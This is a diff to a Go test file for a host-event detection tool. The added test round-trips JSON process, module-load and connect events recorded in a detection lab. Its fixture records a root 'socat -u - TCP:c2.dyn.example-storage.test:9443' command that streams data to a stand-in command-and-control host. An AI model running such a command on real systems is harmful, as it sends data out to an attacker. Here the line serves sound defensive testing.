@@ -93,3 +93,31 @@ const esxiLines = `2021-07-13T14:23:45.123Z info hostd[2099582] [Originator@6876
 2021-07-13T14:23:46.001Z cpu12:2097590)NFC: 1234: transfer of /vmfs/volumes/datastore1/vm1/vm1-flat.vmdk started
 <166>1 2021-07-13T14:23:47.500Z esxi01.example.local Vpxa: verbose vpxa[2100101] [Originator@6876 sub=vpxLro opID=x] [VpxLRO] -- BEGIN task-1
 `
+
+// TestOutflowRecords: what on-host mode writes (--host-events-out) reads
+// back as the same events, here the detection lab's own recording.
+func TestOutflowRecords(t *testing.T) {
+	evs, r := readAll(t, outflowLines)
+	if len(evs) != 3 || len(r.Stats.Errors) != 0 {
+		t.Fatalf("%+v %+v", evs, r.Stats)
+	}
+	var again []byte
+	for i := range evs {
+		again = AppendRecord(again, &evs[i])
+	}
+	if string(again) != outflowLines {
+		t.Errorf("round trip:\n%s\nwant\n%s", again, outflowLines)
+	}
+	c := evs[2]
+	if c.Kind != KindConnect || !c.Initiated || !c.HasSrcPort || c.SrcPort != 41376 || c.Dst.String() != "198.51.100.10" || c.PID != 10399 {
+		t.Errorf("%+v", c)
+	}
+	if m := evs[1]; m.Kind != KindModuleLoad || !strings.HasSuffix(m.Target, "libcrypto.so.3") {
+		t.Errorf("%+v", m)
+	}
+}
+
+const outflowLines = `{"outflow_event":"process_start","time":"2026-12-01T10:59:39.58Z","host":"lab","feed":"procfs","pid":10399,"ppid":10397,"image":"/usr/bin/socat","command_line":"socat -u - TCP:c2.dyn.example-storage.test:9443","user":"root","parent_image":"/usr/bin/timeout","parent_command_line":"timeout 60 socat -u - TCP:c2.dyn.example-storage.test:9443"}
+{"outflow_event":"module_load","time":"2026-12-01T10:59:39.601944211Z","host":"lab","feed":"procfs","pid":10399,"ppid":10397,"image":"/usr/bin/socat","command_line":"socat -u - TCP:c2.dyn.example-storage.test:9443","user":"root","parent_image":"/usr/bin/timeout","parent_command_line":"timeout 60 socat -u - TCP:c2.dyn.example-storage.test:9443","target":"/usr/lib/x86_64-linux-gnu/libcrypto.so.3"}
+{"outflow_event":"connect","time":"2026-12-01T10:59:39.600108114Z","host":"lab","feed":"procfs","pid":10399,"ppid":10397,"image":"/usr/bin/socat","command_line":"socat -u - TCP:c2.dyn.example-storage.test:9443","user":"root","parent_image":"/usr/bin/timeout","parent_command_line":"timeout 60 socat -u - TCP:c2.dyn.example-storage.test:9443","proto":6,"src":"10.77.0.2","src_port":41376,"dst":"198.51.100.10","dst_port":9443,"initiated":true,"has_src_port":true}
+`
